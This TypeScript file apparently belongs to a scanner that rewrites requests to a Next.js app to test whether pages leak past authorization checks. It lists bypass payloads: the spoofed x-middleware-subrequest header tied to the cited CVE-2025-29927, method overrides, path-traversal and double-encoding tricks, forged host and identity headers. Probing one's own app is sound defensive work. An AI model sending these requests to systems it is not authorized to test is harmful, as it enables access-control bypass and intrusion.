import type { Sent } from "./visitor";

/** A request for a path, written in some other way than a browser would. */
export type Shape = (path: string) => Sent & { path: string };

const withHeaders =
  (headers: Record<string, string>, method = "GET"): Shape =>
  (path) => ({ path, headers, method });
const by = (method: string, headers: Record<string, string> = {}): Shape => withHeaders(headers, method);
const at =
  (change: (path: string) => string, headers: Record<string, string> = {}): Shape =>
  (path) => ({ path: change(path), headers });
/** Changes the path and leaves the query. */
const inPath = (change: (path: string) => string, headers: Record<string, string> = {}) =>
  at((given) => {
    const [path = "", query] = given.split("?");
    return change(path) + (query === undefined ? "" : `?${query}`);
  }, headers);
const withQuery = (more: string, headers: Record<string, string> = {}) =>
  at((path) => path + (path.includes("?") ? "&" : "?") + more, headers);

const rsc = { rsc: "1" };
const last = (path: string) => path.split("/").at(-1) ?? "";

/** What has opened doors elsewhere (CVE-2025-29927, CVE-2026-44574, CVE-2026-44575, their neighbors), and what might. */
export const shapes: Readonly<Record<string, Shape>> = {
  "as it is": at((path) => path),
  HEAD: by("HEAD"),
  OPTIONS: by("OPTIONS", { origin: "https://evil.example", "access-control-request-method": "GET" }),
  PUT: by("PUT"),
  PATCH: by("PATCH"),
  DELETE: by("DELETE"),
  PROPFIND: by("PROPFIND"),
  "POST without a body": by("POST"),
  "POST that says it is a GET": by("POST", { "x-http-method-override": "GET", "x-method-override": "GET" }),
  "GET that says it is a POST": withHeaders({ "x-http-method-override": "POST" }),
  RSC: withHeaders(rsc),
  "RSC with its query": withQuery("_rsc=abcde", rsc),
  "the query of RSC alone": withQuery("_rsc=abcde"),
  ".rsc": inPath((path) => `${path}.rsc`),
  ".rsc with the header": inPath((path) => `${path}.rsc`, rsc),
  prefetch: withHeaders({ ...rsc, "next-router-prefetch": "1" }),
  "prefetch of everything": withHeaders({ ...rsc, "next-router-prefetch": "2" }),
  "prefetch of the tree": withHeaders({
    ...rsc,
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/_tree",
  }),
  "prefetch of a segment": withHeaders({
    ...rsc,
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/__PAGE__",
  }),
  "a segment's file": inPath((path) => `${path}.segments/_tree.segment.rsc`),
  "a page's file": inPath((path) => `${path}.segments/__PAGE__.segment.rsc`),
  "a browser's prefetch": withHeaders({
    purpose: "prefetch",
    "sec-purpose": "prefetch;prerender",
    "x-moz": "prefetch",
  }),
  "data of the old router": at((path) => `/_next/data/development${path.split("?")[0]}.json`, {
    "x-nextjs-data": "1",
  }),
  "the header of that": withHeaders({ "x-nextjs-data": "1", "x-middleware-prefetch": "1" }),
  "a request of the middleware": withHeaders({
    "x-middleware-subrequest": Array.from({ length: 6 }, () => "middleware").join(":"),
  }),
  "a request of the proxy": withHeaders({
    "x-middleware-subrequest": Array.from({ length: 6 }, () => "src/proxy").join(":"),
    "x-middleware-subrequest-id": "0",
  }),
  "answers of the middleware": (path) => ({
    path,
    headers: { "x-middleware-next": "1", "x-middleware-rewrite": path, "x-middleware-set-cookie": "a=b" },
  }),
  "a path for the router's insides": (path) => ({
    path: "/",
    headers: {
      "x-invoke-path": path,
      "x-invoke-output": path,
      "x-matched-path": path,
      "x-now-route-matches": "1=1",
    },
  }),
  "a path for a front server": (path) => ({
    path: "/",
    headers: { "x-original-url": path, "x-rewrite-url": path, "x-forwarded-uri": path },
  }),
  "another host in front": withHeaders({ "x-forwarded-host": "evil.example", "x-forwarded-proto": "https" }),
  "a route's value in the query": inPath((path) => path.replace(/[0-9a-f-]{36}/, "x")),
  "the router's own names of values": (path) => ({
    path: `${path.split("?")[0]?.replace(/[0-9a-f-]{36}/, "x")}?nxtPorderId=${last(path)}&orderId=${last(path)}&nxtIorderId=${last(path)}`,
  }),
  "two slashes first": at((path) => `/${path}`),
  "two slashes within": inPath((path) => path.replace(/\/([^/]+)$/, "//$1")),
  "a slash at the end": inPath((path) => `${path}/`),
  "a point within": inPath((path) => path.replace(/\/([^/]+)$/, "/./$1")),
  "points that go up": at((path) => `/cart/..${path}`),
  "encoded points that go up": at((path) => `/cart/%2e%2e${path}`),
  "points encoded twice": at((path) => `/cart/%252e%252e${path}`),
  "an encoded slash": inPath((path) => path.replace(/\/([^/]+)$/, "%2f$1")),
  "a slash encoded twice": inPath((path) => path.replace(/\/([^/]+)$/, "%252f$1")),
  "a backslash": inPath((path) => path.replace(/\/([^/]+)$/, "\\$1")),
  "an encoded letter": at((path) =>
    path.replace(/^\/([a-z])/, (_, letter: string) => `/%${letter.charCodeAt(0).toString(16)}`),
  ),
  "a letter encoded twice": at((path) =>
    path.replace(/^\/([a-z])/, (_, letter: string) => `/%25${letter.charCodeAt(0).toString(16)}`),
  ),
  capitals: at((path) => path.replace(/^\/[a-z]+/, (word) => word.toUpperCase())),
  "a zero byte": inPath((path) => `${path}%00`),
  "a semicolon": inPath((path) => `${path};a=b`),
  "an ending": inPath((path) => `${path}.json`),
  "a language": at((path) => `/de${path}`),
  "where it stands in the app": at((path) => `/shop/en${path}`),
  "a whole address": (path) => ({ path: `http://evil.example${path}` }),
  "a key that is none": withHeaders({ authorization: "Bearer sk_AAAAAAAAAAAAAAAAAAAAAAAAAAA" }),
  "a cookie that says who": withHeaders({
    "x-user": "owner",
    "x-forwarded-user": "owner",
    "remote-user": "owner",
  }),
};
